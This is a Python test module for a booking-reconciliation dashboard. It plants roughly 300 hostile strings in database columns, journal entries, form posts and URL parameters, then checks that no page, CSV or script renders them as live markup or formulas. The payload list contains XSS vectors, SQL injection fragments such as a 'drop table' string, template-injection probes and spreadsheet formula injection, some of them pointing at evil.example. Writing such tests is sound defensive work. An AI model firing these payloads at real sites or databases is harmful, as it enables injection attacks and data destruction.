"""300 hostile strings in every text of the copy, of the journal and of people: none is executed, and none is a formula."""

import contextlib
import csv
import dataclasses
import io
import json
import re
from collections import Counter
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import quote, unquote_plus, urlencode

import pytest
from tests.dashboard.test_acting import OWN
from tests.dashboard.test_own_pages import status
from tests.dashboard.test_pages import PAGES, ask
from tests.flows.harness import NOON
from tests.journal.helpers import HandClock
from tests.journal.test_reconciliations import GROSS, store

from octo_sync.flows.acts import ACCEPT, ASSIGN, COMMENT, HELD, Acts
from octo_sync.journal import Journal

ENDS = "script textarea title style bdi td tr table select option datalist details code pre main noscript template svg"
ELEMENTS = "img src=x|svg|iframe srcdoc=x|video src=x|details open|input autofocus|math|object data=x|a href=x|body"
EVENTS = "onerror onload onfocus ontoggle onmouseover onanimationend"
OTHERS = r"""
<script>$</script>  <SCRIPT>$</SCRIPT >  <scr<script>ipt>$</script>  <script/x>$</script>
<script src=//evil.example/$></script>  <script type=module>$</script>  <<script>$//<</script>
<script>$  </script><script>$</script>  <svg><script>$</script></svg>
<script nonce=1>$</script>  <template><script>$</script></template>  <iframe src=javascript:$>  <base href=//evil.example/$>
<embed src=//evil.example/$>  <form action=//evil.example/$><button>  <math href=javascript:$>  <link rel=stylesheet href=//$>
<meta http-equiv=refresh content=0;url=javascript:$>  <a href=javascript:$>  <a href="data:text/html,$">  <!-- $  --> $  --!> $
<![CDATA[ $  ]]> $  <?php $ ?>  <% $ %>  javascript:$  JaVaScRiPt:$//  java%0ascript:$  data:text/html;base64,$  vbscript:$
//evil.example/$  https://evil.example/$  &lt;script&gt;$  &#60;script&#62;$  &#x3c;img src=x onerror=$&#x3e;
&amp;lt;b&amp;gt;$  &#106;avascript:$  &quot;$  %3Cscript%3E$  \u003cscript\u003e$  \x3cscript\x3e$  {{7*7}}$
{% raw %}$  {{ frame.root }}$
${7*7}$  #{7*7}$  {0}$ %s %(x)d  {b|$}  '; drop table core.products; -- $  ' or 1=1 /* $  ") union select $ --
$$; select $  \' $  '' $
`$`  =1+1 $  +1 $  -1 $  @SUM(1) $  =HYPERLINK("http://evil.example/$")  －1＋1 $  ＜script＞$  ﬁ ſcript $  e̴̛͊vil $  👩‍👩‍👧 $
日本語 $  ا $ ب  ../../$  ?a=$&b=c#d  $,$  _ON_$
"""  # noqa: RUF001 - they are what it is about
LISTED = re.split(r"\n|  ", OTHERS.strip())
CODES = "\x01\x07\x08\t\n\x0b\r\x1b\x1f\x7f\x85\x9f\xa0\u2028\u2029\ufeff\u200b\u202e\u2066\u200f\u061c\ufdd0\U0010ffff\ue000"
MADE = [
    *LISTED,
    *(f"</{name}><h1>$</h1>" for name in ENDS.split()),
    *(f"<{element} {event}=$>" for element in ELEMENTS.split("|") for event in EVENTS.split()),
    *(f"{mark} {event}=$ x={mark}" for mark in "\"'`" for event in EVENTS.split()),
    *(f"{code}=$ <b>{code}" for code in CODES),
    *(f"$ {end * 300}{'x' * 3000}" for end in ("<b>", '"', "&", "]]>")),
    *(f"{mark}>{text}" for mark in "\"'" for text in LISTED[:51]),
]
SAID = [text.replace("$", f"mk{number:03}x") for number, text in enumerate(MADE)]
HARMLESS = [f"said mk{number:03}x" for number in range(300)]
MARKER = re.compile(r"mk(\d{3})x")

IDS = "connection_id product_id option_id unit_id extra_id availability_id booking_uuid supplier_id recon_name recon_key run_id"
"""What rows are joined by, and currency: the same text everywhere, short enough for an address."""
OF_A_LIST = """time_zone business_time_zone travel_month period role both_rows control_totals coverage.resource coverage.key
absences.resource unanswered.resource schema_migrations.program_version"""
"""Nothing is shown where these are not from a list, or of a form of their own; of PARTLY, where none is."""
PARTLY = "status verdict bucket"
SHOWN = """availability_id booking_uuid connection_id currency option_id product_id recon_key recon_name run_id unit_id
booking_history.changed_fields booking_history.source booking_history.status booking_taxes.name
booking_unit_items.reseller_reference booking_unit_items.status booking_unit_items.supplier_reference
booking_unit_items.unit_type bookings.booking_id bookings.cancellation_reason bookings.cancellation_refund
bookings.reseller_reference bookings.status bookings.supplier_reference connections.channel
coverage.missing_capabilities coverage.source extras.title options.internal_name options.title products.internal_name
products.title quarantine.key quarantine.path quarantine.reason quarantine.resource recon_results.accepted_by
recon_results.accepted_note recon_results.both_rows recon_results.bucket recon_results.field recon_results.here_value
recon_results.match_rule recon_results.reason recon_results.there_value recon_runs.control_totals
recon_runs.here_origin recon_runs.there_origin recon_runs.verdict runs.command runs.error runs.status
schema_drift.kind schema_drift.name schema_drift.resource suppliers.name units.internal_name units.title
units.unit_type"""
"""What has to be seen on pages; the page SQL shows every column of the copy, so all of them are planted."""
AT = "timestamptz '2026-11-20 12:00:00+00'"
ROWS = f"""
insert into core.products select p.* replace (product_id || '-' || n as product_id) from core.products p, range(1, 9) r(n);
update core.products set title = null where rowid % 3 = 0;
update core.options set title = null, internal_name = if(rowid % 6 = 0, null, internal_name) where rowid % 3 = 0;
update core.units set title = null, internal_name = if(rowid % 6 = 0, null, internal_name) where rowid % 3 = 0;
update core.extras set title = null, internal_name = if(rowid % 6 = 0, null, internal_name) where rowid % 3 = 0;
update core.bookings set supplier_reference = null where rowid % 5 = 0;
update core.bookings set cancellation_reason = 'x', cancellation_refund = 'x' where rowid % 2 = 0;
update core.booking_unit_items set reseller_reference = 'x', unit_type = if(rowid % 2 = 0, 'x', null);
insert into core.booking_history select * replace (2 as version_no, {AT} as valid_from_utc, 'x' as changed_fields)
  from core.booking_history;
update ops.coverage set missing_capabilities = 'x' where rowid % 2 = 0;
insert into ops.closed_periods values ('2026-10', {AT}, true, 'abc', null);
insert into ops.closed_bookings select '2026-10', connection_id, booking_uuid, currency, retail_amount - 7, net_amount,
  pax_count from marts.fct_bookings where is_sold and travel_month = '2026-10-01';
insert into ops.quarantine select 'main', 'x', 'k' || range, 'x', 'x', 2, {AT}, {AT} from range(100);
insert into ops.schema_drift select 'main', 'x', 'x', 'n' || range, 7, {AT}, {AT}, null from range(100);
insert into ops.runs select 'run' || range, 'x', 'x', 'x', {AT}, {AT}, 1, 1, 1, 1, 'x' from range(20);
insert into ops.recon_runs (recon_name, run_id, verdict, started_at_utc, ended_at_utc, window_start, window_end, here_origin,
  there_origin, control_totals) select 'r' || range % 2, 'run' || range, 'ok', {AT}, {AT} + interval 1 minute * range,
  '2026-09-20', '2026-12-20', 'x', 'x', json_array(json_object('side', 'here', 'currency', $(range), 'rows', 1, 'amounts',
  json_object($(range + 50) || '~recon_runs.control_totals~', '1'))) from range(8);
insert into ops.recon_results (recon_name, recon_key, bucket, field, match_rule, connection_id, booking_uuid, here_value,
  there_value, currency, reason, code, day, both_rows, first_seen_at_utc, last_seen_at_utc, accepted_note, accepted_by)
  select 'r' || n % 2, 'k' || n, 'missing_here', 'x', 'x', connection_id, if(n % 4 = 0, null, booking_uuid), 'x', 'x', 'EUR',
  'x', '', '2026-11-20', json_array(json_array($(n) || '~recon_results.both_rows~', json_array($(n + 9)), json_array($(n + 99)),
  true)), {AT}, {AT}, if(n % 3 = 0, 'x', null), if(n % 3 = 0, 'x', null)
  from (select *, row_number() over () as n from core.bookings)"""
"""Rows for tables that have none; `$(number)` is one of the texts."""


def planted(published, said, turn):
    """The statements that write the texts into every column that takes one, each with a tag that names the column."""
    columns = ask(
        published, "select schema_name || '.' || table_name, table_name || '.' || column_name, column_name from "
        "duckdb_columns() where data_type = 'VARCHAR' and schema_name in ('core', 'ops') order by all",
    )  # fmt: skip
    short = [text for text in said if len(text) < 70 and text.isprintable()]
    for name, texts in (("said", said), ("short", short)):
        yield f"set variable {name} = [{', '.join(map(quoted, texts))}]"
    yield re.sub(r"\$\(([^)]*)\)", rf"getvariable('said')[1 + (\1 + {turn * 30}) % 300]", ROWS)
    for place, (table, name, column) in enumerate(columns):
        if column in (*IDS.split(), "currency"):
            text = f"getvariable('short')[1 + (cast(hash({column}) % 300 as int) + {turn}) % {len(short)}]"
            yield f"update {table} set {column} = {column} || {text} || '~{column}~' where {column} <> ''"
        elif not {column, name} & set(OF_A_LIST.split()):
            text = f"getvariable('said')[1 + (rowid * 37 + {turn * 30 + place * 7}) % 300]"
            where = f"{column} <> '' and rowid % {3 if column in PARTLY.split() else 1} = 0"
            yield f"update {table} set {column} = {text} || '~{name}~' where {where}"


def quoted(text):
    return "'" + text.replace("'", "''") + "'"


class Parsed(HTMLParser):
    """What a page is made of, for a parser that is not the program's."""

    def __init__(self, page):
        super().__init__()
        self.shapes, self.texts, self.cut, self.links, self.inside, self.joined = set(), [], [], [], "", False
        self.feed(page)
        self.close()
        texts = Counter(MARKER.findall("\0".join(self.texts + self.cut)))
        assert texts == Counter(MARKER.findall(page)), "a text is a name or a comment"

    def handle_starttag(self, tag, attrs):
        whole = tag in ("script", "link", "meta")
        self.shapes.add(
            (tag, *sorted(f"{name}={re.sub(r'^[./]+', '', value or '')}" if whole else name for name, value in attrs))
        )
        addresses = [value for name, value in attrs if name in ("href", "src", "action", "formaction")]
        assert all(re.match(r"\.{1,2}/|#content$", each) for each in addresses), addresses
        self.links += addresses
        # What is not broken over two lines is a part of the text around it.
        self.joined = attrs == [("class", "at")] and tag == "span" and self.inside in ("bdi", "span")
        self.texts += [] if self.joined else [value for _, value in attrs if value]
        self.inside = tag

    def handle_endtag(self, tag):
        self.joined = self.joined and tag == "span"
        self.inside = "span" if self.joined else ""

    def handle_data(self, data):
        if self.inside == "script" and data.strip():
            self.texts += leaves(json.loads(data))
        elif self.joined:
            self.texts[-1] += data
        else:
            (self.cut if self.inside == "option" else self.texts).append(data)

    def handle_comment(self, data):
        self.shapes.add(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def leaves(value):
    """All texts in JSON."""
    if isinstance(value, dict | list):
        parts = [*value, *value.values()] if isinstance(value, dict) else value
        return [text for part in parts for text in leaves(part)]
    return [str(value)]


def judged(answer):
    """Shapes, links and texts of an answer; texts that are cut on purpose are apart."""
    kind = answer.headers["content-type"].partition(";")[0]
    if kind == "text/html":
        page = Parsed(answer.text)
        return page.shapes, page.links, page.texts, page.cut
    assert kind in ("text/csv", "text/plain")
    cells = (
        [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row] if kind == "text/csv" else []
    )
    assert not [each for each in cells if each.startswith(tuple("=+-@\t\r")) and not re.fullmatch(r"-?[\d.]+", each)]
    return set(), [], cells, []


def folded(text):
    """As far as every page leaves a text as it is: control characters are not shown, and a status is in small letters."""
    return (
        "".join(each for each in text if each.isprintable() and each != "\N{REPLACEMENT CHARACTER}")
        .lower()
        .replace("_", " ")
    )


def is_whole(text, said):
    """Whether what a text has of ours is all there; a picture's name has letters and digits alone, a list is sorted anew."""
    numbers = set(MARKER.findall(text))
    found = f"{folded(text)} {folded(unquote_plus(text))}" if numbers else ""
    return all(folded(said[int(each)]).strip()[:1000] in found for each in numbers) or re.fullmatch(
        r"[\w-]+|.*changed_fields~.*", text
    )


async def crawled(dashboard, said, paths, most=2):
    """Shapes, markers and tags of pages and of what they lead to: `most` of each page, and of the pages of one thing more."""
    shapes, markers, tags, queue, counts = set(), set(), set(), list(paths), Counter()
    for address in queue:
        answer = await dashboard.get(address)
        assert answer.status_code == 200, (address, answer.text[-500:])
        made, links, texts, cut = judged(answer)
        assert not [text for text in texts if not is_whole(text, said)], address
        every = "\0".join(texts + cut)
        numbers = set(MARKER.findall(every))
        if "html" in answer.headers["content-type"]:
            # Whatever a parser makes of it: also within a script, which only one of these texts could end.
            assert not [each for each in numbers if "<" in said[int(each)] and said[int(each)] in answer.text], address
        shapes |= made
        markers |= numbers
        # What somebody selects is no page's own choice.
        tags |= (
            set()
            if address.startswith("/sql")
            else {tag.replace(" ", "_") for tag in re.findall(r"~([a-z_. ]+)~", every)}
        )
        for link in dict.fromkeys(links):
            path, to = link[1:].partition("?")[0], link[1:].partition("#")[0]
            more = 4 if path in ("/booking", "/departure", "/difference") else 1
            if (path in PAGES or path.startswith("/data/page/")) and to not in queue and counts[path] < most * more:
                counts[path] += 1
                queue.append(to)
    return shapes, markers, tags


@pytest.mark.deep(14, everyday=1)
@pytest.mark.parametrize("turn", range(5))
async def test_no_text_of_the_copy_is_executed(shown, published, variant, turn):
    copies = [variant("said", *planted(published, said, turn), remake=True) for said in (SAID, HARMLESS)]
    shapes, markers, tags = await crawled(shown(copies[0]), SAID, PAGES)
    harmless, *_ = await crawled(shown(copies[1]), HARMLESS, PAGES)
    assert shapes <= harmless, "no element or attribute that is not ours"
    assert len(markers) == 300
    assert sorted(set(SHOWN.split()) - tags) == [], "planted, and yet on no page but SQL"


async def acted(shown, folder, tmp_path, said):
    """The pages of a dashboard on which people wrote all of it, and whose journal says it too."""
    with Journal.open(tmp_path / f"{len(said[0])}.sqlite", clock=HandClock()) as journal:
        store(journal, GROSS.model_copy(update={"key": said[1]}), name=said[0])
        for number in range(2, 290, 3):
            kind = HELD if number % 2 else "bookings"
            journal.quarantine.add_record(said[number], kind, said[number + 1], "", said[number + 2], "r")
        found = status()
        found.connections[0].held.extend(said)
        found.connections[0].kept.extend(said)
        found = dataclasses.replace(
            found,
            running=dataclasses.replace(found.running, owner=said[5]),
            quarantine=journal.quarantine.entries(),
            next_runs=[dataclasses.replace(found.next_runs[0], name=text, expression=text) for text in said],
        )
        dashboard = shown(
            folder,
            user_header="X-Forwarded-User",
            acts=Acts(lambda: contextlib.nullcontext(journal), HandClock(), [said[0]]),
            status=lambda: found,
            deliveries=lambda *_: [
                SimpleNamespace(received_at=NOON, type=text, reading=text, marks=0) for text in said
            ],
        )
        for number, text in enumerate(said):
            act = (COMMENT, ASSIGN, ACCEPT)[number % 3]
            fields = urlencode({"act": act, "about": said[0], "key": said[1], "text": text, "back": "sync#acts"})
            headers = {**OWN, "x-forwarded-user": text.encode()}
            answer = await dashboard.ask("POST", "/act", content=fields, headers=headers)
            assert answer.status_code == (409 if len(text) > 1000 else 303)
        ((uuid,),) = ask(folder, "select min(booking_uuid) from core.bookings")
        difference = f"/difference?{urlencode({'name': said[0], 'key': said[1]})}"
        return await crawled(dashboard, said, ["/sync", "/reconcile", difference, f"/booking?find={uuid}"], 1)


@pytest.mark.deep(7)
async def test_nothing_that_people_write_is_executed(shown, variant, tmp_path):
    found = []
    for said in (SAID, HARMLESS):
        name, key = quoted(said[0]), quoted(said[1])
        folder = variant(
            "acts",
            "insert into ops.recon_runs (recon_name, run_id, verdict, started_at_utc, ended_at_utc, window_start, window_end, "
            f"control_totals) values ({name}, 'r', 'ok', {AT}, {AT}, '2026-09-20', '2026-12-20', '[]')",
            "insert into ops.recon_results (recon_name, recon_key, bucket, field, first_seen_at_utc, last_seen_at_utc) "
            f"values ({name}, {key}, 'missing_here', '', {AT}, {AT})",
        )
        found.append(await acted(shown, folder, tmp_path, said))
    assert found[0][0] <= found[1][0]
    assert len(found[0][1]) == 300


ASKED = """
booking?find=% sql?q=% sql?q=select+'%'+as+"%" sql?ask=% finance?currency=% bookings?product=% bookings?only=%
today?since=% difference?name=%&key=% reconcile?name=%&bucket=% departure?key=%&day=% % occupancy?%=% data/%.csv
data/page/finance.csv?table=% channels?first=%"""


async def test_nothing_that_an_address_asks_for_is_executed(shown):
    dashboard, shapes, markers, asked = shown(), {}, set(), ASKED.split()
    for said in (SAID, HARMLESS[: len(asked)]):
        shapes[said[0]] = set()
        for number, text in enumerate(said):
            address = asked[number % len(asked)].replace("%", quote(text, safe=""))
            answer = await dashboard.get(f"/{address}")
            assert answer.status_code < 500
            made, _, texts, _ = judged(answer)
            shapes[said[0]] |= made
            markers |= set(MARKER.findall("\0".join(texts)))
    assert shapes[SAID[0]] <= shapes[HARMLESS[0]]
    assert len(markers) > 200, "the others are too long, or what asks for nothing"
